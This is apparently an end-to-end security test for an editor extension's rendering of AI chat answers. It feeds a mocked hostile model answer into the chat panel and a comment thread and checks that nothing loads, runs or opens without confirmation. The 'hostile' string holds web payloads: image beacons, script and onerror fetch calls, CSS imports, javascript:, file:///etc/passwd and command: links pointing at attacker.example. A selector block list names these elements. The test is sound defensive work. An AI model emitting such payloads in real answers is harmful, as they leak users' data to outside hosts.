import assert from 'node:assert/strict';
import type { Locator } from 'playwright-core';
import { answer, tokensOf } from '../../support/ollamaServer/scripts';
import { eventually } from '../../support/clock';
import { useWindow } from '../support/fixture';

/** Where a hostile answer would send something, if it could. */
const trap = 'https://attacker.example';

/** What a model may write, by itself or because the code it read instructed it to. */
const hostile = `
![beacon](${trap}/image.png) ![][beacon] ![x](data:image/svg+xml;base64,PHN2Zy8+)

[beacon]: ${trap}/reference.png

<img src="${trap}/tag.png" onerror="fetch('${trap}/error')">
<script>fetch('${trap}/script')</script><iframe src="${trap}/frame"></iframe>
<style>@import url(${trap}/style.css); * { background: url(${trap}/background.png) }</style>
<link rel="stylesheet" href="${trap}/link.css"><object data="${trap}/object"></object>
<form action="${trap}/form"><input autofocus onfocus="fetch('${trap}/focus')"></form>

- ![in a list](${trap}/list.png)
- <img src=${trap}/listtag.png>

> ![in a quote](${trap}/quote.png) <svg onload="fetch('${trap}/svg')">

| ![in a table](${trap}/table.png) | <img src=${trap}/cell.png> |
|---|---|
| [run](command:workbench.action.terminal.new) | [run](javascript:fetch('${trap}/js')) |

[terminal](command:workbench.action.terminal.new) <command:workbench.action.terminal.new>
[file](file:///etc/passwd) [data](data:text/html,<script>alert(1)</script>)
[vscode](vscode://attacker.extension/run) $(rocket) [ref][run]

[run]: command:workbench.action.terminal.new "Run"

\`\`\`html
<img src="${trap}/fence.png">
![in a fence](${trap}/fence2.png)
\`\`\`

   \`\`\`
A fence that only some take for one.
\`\`\`
![misread]

[misread]: ${trap}/misread.png

\`\`\`
The last one.
\`\`\`

The end.
`;

/** Nothing of this may be in what is drawn of an answer. */
const forbidden = [
  'img',
  'script',
  'iframe',
  'style',
  'link',
  'object',
  'embed',
  'form',
  'input',
  'svg',
  'a[href^="command:"]',
  'a[data-href^="command:"]',
  '[onerror]',
  '[onload]',
  '[style*="url"]',
  'a[href^="javascript:"]',
  'a[href^="data:"]',
  'a[href^="file:"]',
  'a[href^="vscode:"]',
  'a[data-href^="javascript:"]',
  'a[data-href^="data:"]',
  'a[data-href^="file:"]',
].join(', ');

describe('an answer that means harm', () => {
  const shared = useWindow();
  const requested: string[] = [];

  before(() => {
    shared.window.page.context().on('request', (request) => requested.push(request.url()));
    shared.server.onChat(answer(tokensOf(hostile)));
    shared.server.onGenerate(answer(tokensOf(hostile)));
  });

  afterEach(() => {
    const escaped = requested.filter((url) => url.includes('attacker'));
    assert.deepEqual(escaped, []);
  });

  async function isHarmless(drawn: Locator): Promise<void> {
    await drawn.getByText('The end.').waitFor();
    const found = await drawn
      .locator(forbidden)
      .evaluateAll((elements) =>
        elements.map((element) => new XMLSerializer().serializeToString(element)),
      );
    assert.deepEqual(found, []);
  }

  it('loads nothing and runs nothing in the chat panel', async () => {
    const { chat } = shared.window;
    await chat.open();
    await chat.send('Say something harmful.');
    await chat.waitForState('done');
    await isHarmless(chat.lastAnswer().locator('.markdown'));
    await shared.window.screenshot('e2e/hostile-panel');
  });

  it('loads nothing and runs nothing in a comment thread', async () => {
    const { workbench, thread } = shared.window;
    await workbench.openFile('debounce.ts');
    await workbench.selectLines(5, 8);
    await workbench.runCommand('Cria: Explain Selection');
    await thread.waitUntilDone();
    await isHarmless(thread.lastBody());
    await thread.lastBody().getByText('$(rocket)').waitFor();
    assert.equal(await thread.lastBody().locator('.codicon').count(), 0);
    await shared.window.screenshot('e2e/hostile-thread');
    await thread.dismissAll();
  });

  it('shows where a link leads, and opens it only when the person says so', async () => {
    const { chat, page } = shared.window;
    shared.server.onChat(answer([`See [the manual](${trap}/manual) for more.`]));
    await chat.send('Where is the manual?');
    await chat.waitForState('done');
    await chat.lastAnswer().getByText('the manual').click();
    const dialog = page.locator('.monaco-dialog-box');
    await dialog.getByText(`${trap}/manual`).waitFor();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'hidden' });
    await chat.hasFocus();
    await eventually(() => assert.equal(page.context().pages().length, 1));
  });
});
